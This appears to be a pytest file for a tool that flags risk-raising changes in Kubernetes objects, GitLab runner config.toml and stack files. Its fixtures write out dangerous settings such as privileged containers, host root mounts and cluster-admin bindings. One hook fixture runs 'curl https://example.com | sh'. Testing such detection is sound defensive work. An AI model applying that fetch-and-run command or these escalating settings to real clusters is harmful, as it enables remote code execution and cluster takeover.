"""Changes that raise a risk, from the API, config.toml and stack files: a report has each."""

from typing import Any

import pytest

from report.inputs.events import USER_RUNNER
from report.model import RiskChange
from tests.support.changes import Change
from tests.support.previews import preview_change
from tests.support.risks import (
    PATCHES,
    changes_of,
    changes_of_jobs,
    container,
    context,
    item,
    patched,
    pod,
    runner,
)

BUILD = "the build container of runner main"
JOB_POD = "the job pod of runner main"
HELPER = "the helper of runner main"
OWN_SERVICE = "a service that a job of runner main names"
ADMIN = {"kind": "ClusterRole", "name": "cluster-admin"}
JOB = {"kind": "ServiceAccount", "name": "gitlab-job-main", "namespace": "ns"}
EVERYONE = {"kind": "Group", "name": "system:authenticated"}
RULE = {"apiGroups": ["apps"], "resources": ["deployments"], "verbs": ["create"]}
SOCKET = [{"name": "s", "hostPath": {"path": "/run/containerd"}}]


def _reported(found: tuple[RiskChange, ...], text: str) -> bool:
    """Whether a risk that weighs is raised in these words."""
    raised = [change for change in found if change.direction == "raised" and change.weighs]
    return any(text in change.what for change in raised)


def _binding(
    *subjects: dict[str, str], namespace: str = "ns", role: dict[str, str] | None = None
) -> dict[str, Any]:
    kind = "RoleBinding" if namespace else "ClusterRoleBinding"
    return item(kind, namespace=namespace, roleRef=role or ADMIN, subjects=list(subjects))


OBJECTS: dict[str, tuple[dict[str, Any] | None, dict[str, Any], str]] = {
    "role-in-anothers-namespace": (
        None,
        item("Role", namespace="payments", rules=[RULE]),
        "Role payments/x may create deployments.apps",
    ),
    "role-in-kube-system": (
        None,
        item("Role", namespace="kube-system", rules=[{**RULE, "resources": ["secrets"]}]),
        "Role kube-system/x may create secrets.apps",
    ),
    "role-for-all-names": (
        item("Role", rules=[{**RULE, "resourceNames": ["one"]}]),
        item("Role", rules=[RULE]),
        "Role ns/x may create deployments.apps",
    ),
    "pods-in-anothers-namespace": (
        None,
        item("Role", namespace="payments", rules=[RULE]),
        "Role payments/x may create pods in namespace payments, whose Pod Security level is not",
    ),
    "pods-everywhere": (
        None,
        item("ClusterRole", namespace="", rules=[RULE]),
        "ClusterRole x may create pods in all namespaces",
    ),
    "service-to-other-addresses": (
        item("EndpointSlice", endpoints=[{"addresses": ["192.0.2.1"]}]),
        item("EndpointSlice", endpoints=[{"addresses": ["192.0.2.2"]}]),
        "EndpointSlice ns/x resolves a Service as of digest",
    ),
    "object-of-an-operator": (
        None,
        item("Application", apiVersion="argoproj.io/v1alpha1", spec={"project": "default"}),
        "Application ns/x is an object of argoproj.io",
    ),
    "cluster-role": (
        None,
        item("ClusterRole", namespace="", rules=[{**RULE, "verbs": ["list"]}]),
        "ClusterRole x may list deployments.apps",
    ),
    "cluster-role-extends-admin": (
        item("ClusterRole", namespace=""),
        item(
            "ClusterRole",
            namespace="",
            metadata={
                "labels": {"app": "x", "rbac.authorization.k8s.io/aggregate-to-admin": "true"}
            },
        ),
        "ClusterRole x may extend the ClusterRole admin",
    ),
    "cluster-role-of-others": (
        item("ClusterRole", namespace=""),
        item("ClusterRole", namespace="", aggregationRule={"clusterRoleSelectors": [{}]}),
        "ClusterRole x may do what other roles grant",
    ),
    "cluster-admin-to-jobs": (
        None,
        _binding(JOB, namespace=""),
        "ServiceAccount ns/gitlab-job-main has the permissions of ClusterRole cluster-admin in all "
        "namespaces",
    ),
    "role-of-the-system": (
        None,
        _binding(JOB, role={"kind": "ClusterRole", "name": "system:kube-controller-manager"}),
        "has the permissions of ClusterRole system:kube-controller-manager in namespace ns",
    ),
    "everyone": (
        _binding(JOB, role={"kind": "Role", "name": "r"}),
        _binding(JOB, EVERYONE, role={"kind": "Role", "name": "r"}),
        "Group system:authenticated has the permissions of Role ns/r",
    ),
    "binding-in-kube-system": (
        None,
        _binding(JOB, namespace="kube-system", role={"kind": "ClusterRole", "name": "view"}),
        "has the permissions of ClusterRole view in namespace kube-system",
    ),
    "mutating-webhook": (
        None,
        item("MutatingWebhookConfiguration", namespace="", webhooks=[{"name": "w"}]),
        "MutatingWebhookConfiguration x acts on the whole cluster",
    ),
    "webhook-to-another-address": (
        item("ValidatingWebhookConfiguration", namespace="", webhooks=[{"name": "w"}]),
        item("ValidatingWebhookConfiguration", namespace="", webhooks=[{"name": "v"}]),
        "ValidatingWebhookConfiguration x acts on the whole cluster",
    ),
    "custom-resource": (
        None,
        item("CustomResourceDefinition", namespace=""),
        "CustomResourceDefinition x acts on the whole cluster",
    ),
    "api-service": (
        None,
        item("APIService", namespace="", spec={"group": "metrics.k8s.io"}),
        "APIService x acts on the whole cluster",
    ),
    "volume-of-the-node": (
        None,
        item("PersistentVolume", namespace="", spec={"hostPath": {"path": "/"}}),
        "PersistentVolume x acts on the whole cluster",
    ),
    "lasting-token": (
        None,
        item(
            "Secret",
            type="kubernetes.io/service-account-token",
            metadata={"annotations": {"kubernetes.io/service-account.name": "deployer"}},
        ),
        "Secret ns/x is a token of the account deployer that never expires",
    ),
    "cloud-role": (
        item("ServiceAccount"),
        item(
            "ServiceAccount",
            metadata={"annotations": {"eks.amazonaws.com/role-arn": "arn:aws:iam::1:role/admin"}},
        ),
        "ServiceAccount ns/x acts in the cloud as arn:aws:iam::1:role/admin",
    ),
    "node-port": (
        item("Service", spec={"type": "ClusterIP"}),
        item("Service", spec={"type": "NodePort"}),
        "Service ns/x can be reached from outside of the cluster by type NodePort",
    ),
    "external-address": (
        item("Service", spec={}),
        item("Service", spec={"externalIPs": ["192.0.2.1"]}),
        "Service ns/x can be reached from outside of the cluster at 192.0.2.1",
    ),
    "ingress": (
        None,
        item("Ingress", spec={"rules": [{"host": "builds.example.com"}]}),
        "Ingress ns/x can be reached from outside of the cluster",
    ),
    "policy-of-another-namespace": (
        None,
        item("NetworkPolicy", namespace="payments", spec={"ingress": [{}]}),
        "NetworkPolicy payments/x allows ingress from everywhere",
    ),
    "policy-without-egress": (
        item("NetworkPolicy", spec={"policyTypes": ["Ingress", "Egress"]}),
        item("NetworkPolicy", spec={"policyTypes": ["Ingress"]}),
        "NetworkPolicy ns/x does not limit egress",
    ),
    "policy-for-fewer-pods": (
        item("NetworkPolicy", spec={"podSelector": {}}),
        item("NetworkPolicy", spec={"podSelector": {"matchLabels": {"a": "b"}}}),
        "NetworkPolicy ns/x does not limit pods other than",
    ),
    "older-pod-security": (
        item("Namespace", namespace=""),
        item(
            "Namespace",
            namespace="",
            metadata={
                "labels": {
                    "pod-security.kubernetes.io/enforce": "baseline",
                    "pod-security.kubernetes.io/enforce-version": "v1.20",
                }
            },
        ),
        "Namespace x admits pods at level baseline as of v1.20",
    ),
    "list-of-objects": (
        None,
        {"kind": "List", "items": [context(privileged=True)]},
        "container c of Pod ns/x is privileged",
    ),
    "list-of-roles": (
        None,
        {"kind": "RoleBindingList", "items": [_binding(EVERYONE)]},
        "Group system:authenticated has the permissions of ClusterRole cluster-admin",
    ),
    "init-container": (
        pod(initContainers=[{"name": "i"}]),
        pod(initContainers=[{"name": "i", "securityContext": {"privileged": True}}]),
        "container i of Pod ns/x is privileged",
    ),
    "ephemeral-container": (
        pod(),
        pod(ephemeralContainers=[{"name": "e", "securityContext": {"privileged": True}}]),
        "container e of Pod ns/x is privileged",
    ),
    "proc-mount": (
        context(),
        context(procMount="Unmasked"),
        "container c of Pod ns/x runs with procMount Unmasked",
    ),
    "selinux-type": (
        context(),
        context(seLinuxOptions={"type": "spc_t"}),
        "container c of Pod ns/x runs with SELinux type spc_t",
    ),
    "selinux-user": (
        context(seLinuxOptions={"type": "container_t"}),
        context(seLinuxOptions={"type": "container_t", "user": "system_u"}),
        "container c of Pod ns/x runs with SELinux user system_u",
    ),
    "host-process": (
        context(),
        context(windowsOptions={"hostProcess": True}),
        "container c of Pod ns/x is privileged",
    ),
    "apparmor-annotation": (
        container(),
        {
            **container(),
            "metadata": {
                "name": "x",
                "namespace": "ns",
                "annotations": {"container.apparmor.security.beta.kubernetes.io/c": "unconfined"},
            },
        },
        "container c of Pod ns/x runs with AppArmor Unconfined",
    ),
    "sysctl": (
        pod(),
        pod(securityContext={"sysctls": [{"name": "kernel.msgmax", "value": "1"}]}),
        "Pod ns/x runs with sysctl kernel.msgmax=1",
    ),
    "host-port": (
        container(ports=[{"containerPort": 80}]),
        container(ports=[{"containerPort": 80, "hostPort": 8080}]),
        "container c of Pod ns/x listens on port 8080 of the node",
    ),
    "shared-processes": (
        pod(),
        pod(shareProcessNamespace=True),
        "the containers of Pod ns/x see each other's processes",
    ),
    "token-mounted": (
        pod(automountServiceAccountToken=False),
        pod(),
        "Pod ns/x mounts the token of its account",
    ),
    "projected-token": (
        pod(),
        pod(
            volumes=[
                {"name": "t", "projected": {"sources": [{"serviceAccountToken": {"path": "t"}}]}}
            ]
        ),
        "Pod ns/x mounts the token of its account",
    ),
    "another-account": (
        pod(serviceAccountName="jobs"),
        pod(serviceAccountName="admin"),
        "Pod ns/x runs as the account admin",
    ),
    "claim": (
        pod(),
        pod(volumes=[{"name": "v", "persistentVolumeClaim": {"claimName": "shared"}}]),
        "Pod ns/x mounts persistentVolumeClaim claimName: shared",
    ),
    "csi-volume": (
        pod(),
        pod(volumes=[{"name": "v", "csi": {"driver": "hostpath.csi.k8s.io"}}]),
        "Pod ns/x mounts csi driver: hostpath.csi.k8s.io",
    ),
    "writable-path": (
        pod(
            containers=[{"name": "c", "volumeMounts": [{"name": "s", "readOnly": True}]}],
            volumes=SOCKET,
        ),
        pod(containers=[{"name": "c", "volumeMounts": [{"name": "s"}]}], volumes=SOCKET),
        "Pod ns/x can write to /run/containerd of the node",
    ),
    "system-priority": (
        pod(),
        pod(priorityClassName="system-node-critical"),
        "Pod ns/x has the priority system-node-critical",
    ),
    "chosen-node": (
        pod(),
        pod(nodeName="control-plane-0"),
        "Pod ns/x runs on node control-plane-0, past the scheduler",
    ),
    "host-alias": (
        pod(),
        pod(hostAliases=[{"ip": "192.0.2.1", "hostnames": ["gitlab.example.com"]}]),
        "Pod ns/x resolves gitlab.example.com as 192.0.2.1",
    ),
    "name-server": (
        pod(),
        pod(dnsConfig={"nameservers": ["192.0.2.1"]}),
        "Pod ns/x resolves names by 192.0.2.1",
    ),
    "no-sandbox": (
        pod(runtimeClassName="gvisor"),
        pod(),
        "Pod ns/x changes to the RuntimeClass none",
    ),
    "another-sandbox": (
        pod(runtimeClassName="gvisor"),
        pod(runtimeClassName="runc"),
        "Pod ns/x changes to the RuntimeClass runc",
    ),
}

PRIVILEGED = {"privileged": True}
JOBS: dict[str, tuple[dict[str, Any], dict[str, Any], str]] = {
    "patch-host-pid": (
        runner(),
        patched({"hostPID": True, "hostNetwork": True}),
        f"{JOB_POD} has hostPID",
    ),
    "patch-host-path": (
        runner(),
        patched({"volumes": [{"name": "r", "hostPath": {"path": "/"}}]}),
        f"{JOB_POD} mounts / from the node",
    ),
    "patch-helper": (
        runner(),
        patched({"containers": [{"name": "helper", "securityContext": PRIVILEGED}]}),
        f"{HELPER} is privileged",
    ),
    "patch-init": (
        runner(),
        patched({"initContainers": [{"name": "init-permissions", "securityContext": PRIVILEGED}]}),
        f"{HELPER} is privileged",
    ),
    "patch-sidecar": (
        runner(),
        patched({"containers": [{"name": "side", "securityContext": PRIVILEGED}]}),
        f"container side of {JOB_POD} is privileged",
    ),
    "patch-yaml": (runner(), patched("hostIPC: true"), f"{JOB_POD} has hostIPC"),
    "patch-json": (
        runner(),
        patched([{"op": "add", "path": "/hostPID", "value": True}], "json"),
        f"{JOB_POD} has hostPID",
    ),
    "patch-json-container": (
        runner(),
        patched(
            [{"op": "add", "path": "/containers/0/securityContext/privileged", "value": True}],
            "json",
        ),
        f"{BUILD} is privileged",
    ),
    "patch-json-service": (
        runner(services=[{"name": "postgres:17", "alias": "db"}]),
        patched(
            [{"op": "replace", "path": "/containers/2/securityContext", "value": PRIVILEGED}],
            "json",
            services=[{"name": "postgres:17", "alias": "db"}],
        ),
        "the service db of runner main is privileged",
    ),
    "patch-merge": (
        runner(),
        patched({"containers": [{"name": "build", "securityContext": PRIVILEGED}]}, "merge"),
        f"{BUILD} is privileged",
    ),
    "patch-account": (
        runner(service_account="jobs"),
        patched({"serviceAccountName": "admin"}, service_account="jobs"),
        f"{JOB_POD} runs as the account admin",
    ),
    "patch-token": (
        runner(),
        patched({"automountServiceAccountToken": True}),
        f"{JOB_POD} mounts the token of its account",
    ),
    "patch-in-a-file": (
        runner(),
        runner({"feature_flags": {PATCHES: True}}, pod_spec=[{"patch_path": "/patch.yaml"}]),
        f"{JOB_POD} has the patch None (strategic",
    ),
    "patch-without-a-type": (
        runner(),
        patched({"hostPID": True}, "other"),
        f"{JOB_POD} has the patch p (other",
    ),
    "patch-that-is-no-yaml": (runner(), patched("{"), "which this report cannot judge"),
    "patch-with-a-directive": (
        runner(),
        patched({"containers": [{"name": "build", "$patch": "delete"}]}),
        "which this report cannot judge",
    ),
    "patch-of-no-container": (
        runner(),
        patched([{"op": "add", "path": "/containers/9/image", "value": "a"}], "json"),
        "which this report cannot judge",
    ),
    "patch-that-a-job-switches-on": (
        runner(),
        runner(pod_spec=[{"patch": "hostPID: true"}]),
        f"{JOB_POD} has hostPID",
    ),
    "patch-switched-off": (
        patched({"hostUsers": False}),
        runner({"feature_flags": {PATCHES: False}}, pod_spec=[{"patch": "hostUsers: false"}]),
        f"{JOB_POD} runs in the user namespace of the node",
    ),
    "helper-context": (
        runner(),
        runner(helper_container_security_context=PRIVILEGED),
        f"{HELPER} is privileged",
    ),
    "init-context": (
        runner(),
        runner(init_permissions_container_security_context={"capabilities": {"add": ["ALL"]}}),
        f"{HELPER} has the capability ALL",
    ),
    "service-context": (
        runner(),
        runner(service_container_security_context=PRIVILEGED),
        f"{OWN_SERVICE} is privileged",
    ),
    "services-of-all-images": (
        runner(
            services=[{"name": "docker:29-dind", "alias": "docker"}],
            service_container_security_context=PRIVILEGED,
            allowed_services=["docker:29-dind"],
        ),
        runner(
            services=[{"name": "docker:29-dind", "alias": "docker"}],
            service_container_security_context=PRIVILEGED,
            allowed_services=["docker:29-dind", "**/*"],
        ),
        f"{OWN_SERVICE} is privileged",
    ),
    "context-of-the-pod": (
        runner(),
        runner(pod_security_context={"selinux_type": "spc_t"}),
        f"{BUILD} runs with SELinux type spc_t",
    ),
    "proc-mount-of-a-build": (
        runner(),
        runner(build_container_security_context={"proc_mount": "unmasked"}),
        f"{BUILD} runs with procMount Unmasked",
    ),
    "profile-by-its-key": (
        runner(),
        runner(build_container_security_context={"seccomp_profile": {"type": "Unconfined"}}),
        f"{BUILD} runs with seccomp Unconfined",
    ),
    "apparmor-by-annotation": (
        runner(),
        runner(
            pod_annotations={"container.apparmor.security.beta.kubernetes.io/build": "unconfined"}
        ),
        f"{BUILD} runs with AppArmor Unconfined",
    ),
    "cloud-role-by-annotation": (
        runner(),
        runner(pod_annotations={"iam.amazonaws.com/role": "admin"}),
        f"{JOB_POD} acts in the cloud as admin",
    ),
    "capability-past-the-general-list": (
        runner(cap_drop=["ALL"]),
        runner(
            cap_drop=["ALL"],
            build_container_security_context={"capabilities": {"add": ["SYS_ADMIN"], "drop": []}},
        ),
        f"{BUILD} has the capability SYS_ADMIN",
    ),
    "host-path-by-its-mount": (
        runner(),
        runner(volumes={"host_path": [{"name": "v", "mount_path": "/var/lib/kubelet"}]}),
        f"{JOB_POD} mounts /var/lib/kubelet from the node",
    ),
    "host-path-made-writable": (
        runner(volumes={"host_path": [{"name": "v", "mount_path": "/s", "read_only": True}]}),
        runner(volumes={"host_path": [{"name": "v", "mount_path": "/s"}]}),
        f"{JOB_POD} can write to /s of the node",
    ),
    "claim-of-jobs": (
        runner(),
        runner(volumes={"pvc": [{"name": "cache-$CI_PROJECT_ID", "mount_path": "/cache"}]}),
        f"{JOB_POD} mounts persistentVolumeClaim claimName: cache-$CI_PROJECT_ID",
    ),
    "csi-of-jobs": (
        runner(),
        runner(volumes={"csi": [{"name": "v", "mount_path": "/v", "driver": "secrets-store"}]}),
        f"{JOB_POD} mounts csi driver: secrets-store",
    ),
    "nfs-of-jobs": (
        runner(),
        runner(volumes={"nfs": [{"name": "v", "mount_path": "/v", "server": "192.0.2.1"}]}),
        f"{JOB_POD} mounts nfs server: 192.0.2.1",
    ),
    **{
        f"override-{key}": (
            runner(),
            runner(None, **{f"{key}_overwrite_allowed": value}),
            f"a job of runner main may choose its {key} ({value})",
        )
        for key, value in (
            ("bearer_token", True),
            ("namespace", ".*"),
            ("node_selector", ".*"),
            ("node_tolerations", ".*"),
            ("pod_annotations", ".*"),
            ("pod_labels", ".*"),
            ("service_account", "^deploy$"),
        )
    },
    "override-of-the-user": (
        runner(allowed_users=["1000"]),
        runner(allowed_users=["1000", "0"]),
        "a job of runner main may choose its user 0",
    ),
    "any-image": (
        runner(allowed_images=["registry.example.com/**/*"]),
        runner(),
        "a job of runner main may run any image",
    ),
    "more-images": (
        runner(allowed_images=["registry.example.com/**/*"]),
        runner(allowed_images=["registry.example.com/**/*", "**/*"]),
        "a job of runner main may run **/*",
    ),
    "images-of-the-node": (
        runner(pull_policy=["always"]),
        runner(pull_policy=["always", "if-not-present"]),
        "a job of runner main may run private images that its node has",
    ),
    "images-of-the-node-by-choice": (
        runner(pull_policy="always"),
        runner(pull_policy="always", allowed_pull_policies=["always", "never"]),
        "a job of runner main may run private images that its node has",
    ),
    "helper-image": (
        runner(),
        runner(helper_image="registry.example.com/helper:1"),
        f"{HELPER} runs the image registry.example.com/helper:1",
    ),
    "hook-before-sources": (
        runner(),
        runner({"pre_get_sources_script": "curl https://example.com | sh"}),
        "each job of runner main runs pre_get_sources_script",
    ),
    "hook-of-containers": (
        runner(),
        runner(container_lifecycle={"post_start": {"exec": {"command": ["sh"]}}}),
        "each job of runner main runs container_lifecycle",
    ),
    "secrets-in-logs": (
        runner(),
        runner({"environment": ["CI_DEBUG_TRACE=true"]}),
        "each job of runner main has the variable CI_DEBUG_TRACE=true",
    ),
    "another-executor": (
        runner({"executor": "kubernetes"}),
        runner({"executor": "shell"}),
        "runner main has executor = shell",
    ),
    "sources-from-elsewhere": (
        runner(),
        runner({"clone_url": "https://git.example.com"}),
        "runner main has clone_url = https://git.example.com",
    ),
    "another-cluster": (
        runner(),
        runner(host="https://192.0.2.1:6443"),
        "runner main has kubernetes.host = https://192.0.2.1:6443",
    ),
    "another-account-there": (
        runner(),
        runner(bearer_token="planted"),
        "runner main has kubernetes.bearer_token",
    ),
    "namespace-of-others": (
        runner(),
        runner(namespace="kube-system"),
        f"{JOB_POD} runs in the namespace kube-system",
    ),
    "names-by-another": (
        runner(),
        runner(host_aliases=[{"ip": "192.0.2.1", "hostnames": ["gitlab.example.com"]}]),
        f"{JOB_POD} resolves gitlab.example.com as 192.0.2.1",
    ),
    "second-runner": (
        runner(),
        {"values": {"runners": {"config": "[[runners]]\n[[runners]]\n"}}},
        "config.toml of runner main has 2 entries of [[runners]]",
    ),
    "no-toml": (
        runner(),
        {"values": {"runners": {"config": "[[runners"}}},
        "config.toml of runner main has a text that is not TOML",
    ),
    "template": (
        runner(),
        {"values": {"runners": {"config": "[[runners]]\nname = '{{ .Release.Name }}'"}}},
        "config.toml of runner main has a template",
    ),
    "no-config": (
        runner(),
        {"values": {"runners": {}}},
        "config.toml of runner main has 0 entries of [[runners]]",
    ),
}

DEPLOY = {"kind": "deploy", "permissions": {"apps": [{**RULE, "verbs": ["get"]}]}}
MORE = {"kind": "deploy", "permissions": {"apps": [{**RULE, "verbs": ["get"]}], "payments": [RULE]}}
STACK_FILES: dict[str, tuple[Change, str]] = {
    "permissions-where-others-are": (
        Change(
            before={"runners.main.strategy": DEPLOY},
            after={"runners.main.strategy": MORE, "targetNamespaces.payments": {}},
        ),
        "Role payments/gitlab-job-main may create deployments.apps",
    ),
    "a-runner-that-deploys-where-others-are": (
        Change(after={"targetNamespaces.payments": {}, "runners.main.strategy": MORE}),
        "Role payments/gitlab-job-main may create deployments.apps",
    ),
    "first-deployment-into-a-namespace-of-others": (
        Change(after={"targetNamespaces.payments": {}, "runners.main.strategy": MORE}, first=True),
        "Role payments/gitlab-job-main may create deployments.apps",
    ),
    "no-sandbox": (
        Change(before={"runners.main.runtimeClassName": "gvisor"}),
        f"{JOB_POD} changes to the RuntimeClass none",
    ),
    "secrets-in-logs": (
        Change(after={"runners.main.environment": {"CI_DEBUG_TRACE": "true"}}),
        "each job of runner main has the variable CI_DEBUG_TRACE=true",
    ),
    "priority-of-the-system": (
        Change(after={"runners.main.priorityClassName": "system-cluster-critical"}),
        f"{JOB_POD} has the priority system-cluster-critical",
    ),
    "preview-account": (
        Change(after={"previewAccount": True}),
        "ServiceAccount builds/reviewer has the permissions of Role builds/reviewer",
    ),
}


REGISTERED = {"runnerType": "project_type", "accessLevel": "ref_protected", "untagged": False}


@pytest.mark.parametrize(
    ("key", "value", "text"),
    [
        ("accessLevel", "not_protected", "of branches that are not protected"),
        ("untagged", True, "without tags"),
        ("runnerType", "group_type", "of a whole group"),
        ("runnerType", "instance_type", "of all projects"),
    ],
)
def test_a_runner_that_takes_more_jobs_is_reported(key: str, value: object, text: str) -> None:
    found = changes_of(REGISTERED, {**REGISTERED, key: value}, USER_RUNNER)

    assert _reported(found, f"runner main takes jobs {text}")
    assert changes_of(None, REGISTERED, USER_RUNNER) == ()


@pytest.mark.parametrize("name", OBJECTS)
def test_a_risk_of_an_object_is_reported(name: str) -> None:
    old, new, text = OBJECTS[name]

    assert _reported(changes_of(old, new), text)


@pytest.mark.parametrize("name", JOBS)
def test_a_risk_of_jobs_is_reported(name: str) -> None:
    old, new, text = JOBS[name]

    assert _reported(changes_of_jobs(old, new), text)


@pytest.mark.parametrize("name", STACK_FILES)
def test_a_risk_of_a_stack_file_is_reported(name: str) -> None:
    change, text = STACK_FILES[name]

    report = preview_change(change)

    assert _reported(report.risk_changes, text)
    assert report.risk == "raised"
